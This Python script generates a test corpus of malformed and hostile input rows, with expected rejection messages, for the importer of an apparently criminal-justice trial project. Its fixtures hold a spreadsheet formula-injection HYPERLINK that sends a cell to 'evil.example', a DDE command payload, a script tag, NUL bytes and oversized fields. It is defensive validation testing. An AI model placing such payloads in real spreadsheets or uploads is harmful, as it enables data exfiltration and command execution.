"""Write the bad-input corpus and expected.csv: `python tests/outcomes/bad_inputs/make_corpus.py`.

One file per rule and path; each is a good row followed by one bad row, so a refusal that kept
the good row would show. The committed files are what the tests read: run this only to add a
case (and commit what it writes).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from openpyxl import Workbook

ROOT = Path(__file__).parent
P1, P2 = "14/0000001N", "14/0000002P"  # make_pnc(14, 1) and make_pnc(14, 2)
RECORD = ["record_id", "person_id", "offence_date", "offence_code", "victim_relationship"]
RECORD += ["record_status"]
GOOD = ["G1", P1, "2024-05-01", "105/01", "same_partner", "arrest"]
HYPER = '=HYPERLINK("https://evil.example/?d="&B3,"details")'
CATALOGUE = ["code", "title", "harm_days", "source"]
PEOPLE = ["trial_id", "stratum", "randomised_on", "arm", "workshops_attended", "age"]
PEOPLE += ["offence_type", "dash_risk"]
OFFENCES = ["trial_id", "offence_date", "offence_code", "victim_relationship", "record_id"]
GOOD_PEOPLE = [
    ["CARA-0001", "north", "2022-01-10", "cara", "2", "34", "common_assault", "standard"],
    ["CARA-0002", "north", "2022-01-12", "control", "", "41", "criminal_damage", "medium"],
]
GOOD_OFFENCES = [["CARA-0001", "2022-03-01", "105/01", "same_partner", "H-1"]]
expected: list[tuple[str, int, str, str]] = []


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])  # \r\n ends: a cell holding \r is quoted


def record(kind: str, name: str, column: str, value: object, expect: str) -> None:
    bad: dict[str, object] = dict(
        zip(RECORD, ["B1", P2, "2024-05-02", "105/01", "family", "charge"], strict=True)
    )
    bad[column] = value
    if kind == "http":
        page = {"records": [dict(zip(RECORD, GOOD, strict=True)), bad], "next": None}
        (ROOT / kind).mkdir(exist_ok=True)
        (ROOT / kind / f"{name}.json").write_text(json.dumps(page, indent=1) + "\n")
        expected.append((f"{kind}/{name}.json", 2, column, expect))  # record 2 of the page
        return
    write_csv(ROOT / kind / f"{name}.csv", RECORD, [GOOD, [str(bad[c]) for c in RECORD]])
    expected.append((f"{kind}/{name}.csv", 3, column, expect))


def harm_csv(name: str, column: str, value: str, expect: str) -> None:
    bad = {"code": "008/06", "title": "ABH", "harm_days": "10", "source": "test"}
    bad[column] = value
    good = ["105/01", "Common assault", "1", "test"]
    write_csv(ROOT / "harm_index" / f"{name}.csv", CATALOGUE, [good, [bad[c] for c in CATALOGUE]])
    expected.append((f"harm_index/{name}.csv", 3, column, expect))


def harm_xlsx(name: str, column: str, value: object, expect: str) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "CCHI"
    sheet.append(["HOME_OFFICE_CLASSIFICATION", "FULL_OFFENCE_TITLE", "CCHI Score"])
    sheet.append(["105/01", "Common assault", 1])
    bad: dict[str, object] = {"code": "008/06", "title": "ABH", "harm_days": 10}
    bad[column] = value
    sheet.append([bad["code"], bad["title"], bad["harm_days"]])
    for cell in sheet[3]:
        if isinstance(cell.value, str) and cell.value.startswith("="):
            cell.data_type = "s"  # text that looks like a formula, as a records system writes it
    book.save(ROOT / "harm_index" / f"{name}.xlsx")
    expected.append((f"harm_index/{name}.xlsx", 3, column, expect))


def people(name: str, column: str, value: str, expect: str) -> None:
    values = ["CARA-0003", "north", "2022-02-01", "cara", "1", "29", "", ""]
    bad = dict(zip(PEOPLE, values, strict=True))
    bad[column] = value
    path = ROOT / "history" / f"participants-{name}.csv"
    write_csv(path, PEOPLE, [*GOOD_PEOPLE, [bad[c] for c in PEOPLE]])
    expected.append((f"history/{path.name}", 4, column, expect))


def offences(name: str, column: str, value: str, expect: str) -> None:
    values = ["CARA-0002", "2022-04-01", "105/01", "family", "H-2"]
    bad = dict(zip(OFFENCES, values, strict=True))
    bad[column] = value
    path = ROOT / "history" / f"reoffences-{name}.csv"
    write_csv(path, OFFENCES, [*GOOD_OFFENCES, [bad[c] for c in OFFENCES]])
    expected.append((f"history/{path.name}", 3, column, expect))


def main() -> None:
    before_1990 = "1900-01-01 is before 1990-01-01"
    record("upload", "formula-hyperlink-record-id", "record_id", HYPER, "starts with =")
    record("upload", "formula-sum-offence-code", "offence_code", "=1+1", "starts with =")
    record("upload", "plus-offence-code", "offence_code", "+105/01", "starts with +")
    record("upload", "at-record-id", "record_id", "@SUM(A1:A9)", "starts with @")
    record("upload", "nul-record-id", "record_id", "B\x001", "holds a NUL byte")
    record("upload", "offence-1900", "offence_date", "1900-01-01", before_1990)
    record("upload", "long-record-id", "record_id", "R" * 101, "longer than 100 characters")
    record("upload", "tab-person-id", "person_id", "\t" + P2, "starts with \\t")
    record("folder", "minus-record-id", "record_id", "-2+3", "starts with -")
    record("folder", "cr-offence-code", "offence_code", "\r105/01", "starts with \\r")
    record("folder", "nul-offence-code", "offence_code", "105\x00/01", "holds a NUL byte")
    record("folder", "long-offence-code", "offence_code", "1" * 41, "longer than 40 characters")
    record("folder", "offence-1989", "offence_date", "31/12/1989", "1989-12-31 is before")
    record("http", "formula-record-id", "record_id", HYPER, "starts with =")
    record("http", "nul-record-id", "record_id", "B\x001", "holds a NUL byte")
    record("http", "offence-1900", "offence_date", "1900-01-01", before_1990)
    record("http", "long-offence-code", "offence_code", "1" * 41, "longer than 40 characters")
    record("http", "negative-number-record-id", "record_id", -5, "starts with -")
    not_days = "is not a number of days"
    harm_csv("harm-1e400", "harm_days", "1e400", not_days)
    harm_csv("harm-nan", "harm_days", "NaN", not_days)
    harm_csv("harm-infinity", "harm_days", "Infinity", not_days)
    harm_csv("harm-over-100000", "harm_days", "100000.01", "harm must be from 0 to 100,000 days")
    harm_csv("code-300-chars", "code", "9" * 300, "code is longer than 40 characters")
    harm_csv("code-nul", "code", "008\x00/06", "holds a NUL byte")
    harm_csv("title-formula", "title", HYPER, "starts with =")
    harm_csv("title-nul", "title", "ABH\x00", "holds a NUL byte")
    harm_csv("title-301-chars", "title", "T" * 301, "title is longer than 300 characters")
    harm_csv("source-at", "source", "@cmd|' /C calc'!A0", "starts with @")
    harm_xlsx("title-formula", "title", HYPER, "starts with =")
    harm_xlsx("harm-over-100000", "harm_days", 250000, "harm must be from 0 to 100,000 days")
    harm_xlsx("harm-negative", "harm_days", -3, "harm must be from 0 to 100,000 days")
    harm_xlsx("code-300-chars", "code", "9" * 300, "code is longer than 31 characters")
    write_csv(ROOT / "history" / "good-participants.csv", PEOPLE, GOOD_PEOPLE)
    write_csv(ROOT / "history" / "good-reoffences.csv", OFFENCES, GOOD_OFFENCES)
    people("script-trial-id", "trial_id", "<script>alert(1)</script>", "not a trial ID of trial")
    people("other-trial-id", "trial_id", "OTHER-0042", "an ID of another trial is never renamed")
    people("randomised-1900", "randomised_on", "1900-01-10", "1900-01-10 is before 1990-01-01")
    people("formula-offence-type", "offence_type", "=1+1", "starts with =")
    people("nul-stratum", "stratum", "no\x00rth", "holds a NUL byte")
    people("long-arm", "arm", "a" * 31, "arm is longer than 30 characters")
    people("superscript-age", "age", "\u00b2", "is not a whole number from 10 to 120")
    people("huge-age", "age", "9" * 5000, "is not a whole number from 10 to 120")
    offences("other-trial-id", "trial_id", "OTHER-0002", "is not a trial ID of trial CARA")
    offences("offence-1900", "offence_date", "1900-01-01", before_1990)
    offences("formula-record-id", "record_id", HYPER, "starts with =")
    offences("long-offence-code", "offence_code", "1" * 41, "longer than 40 characters")
    offences("tab-offence-code", "offence_code", "\t105/01", "starts with \\t")
    with (ROOT / "expected.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(
            [("file", "row", "column", "message"), *expected]
        )


if __name__ == "__main__":
    main()
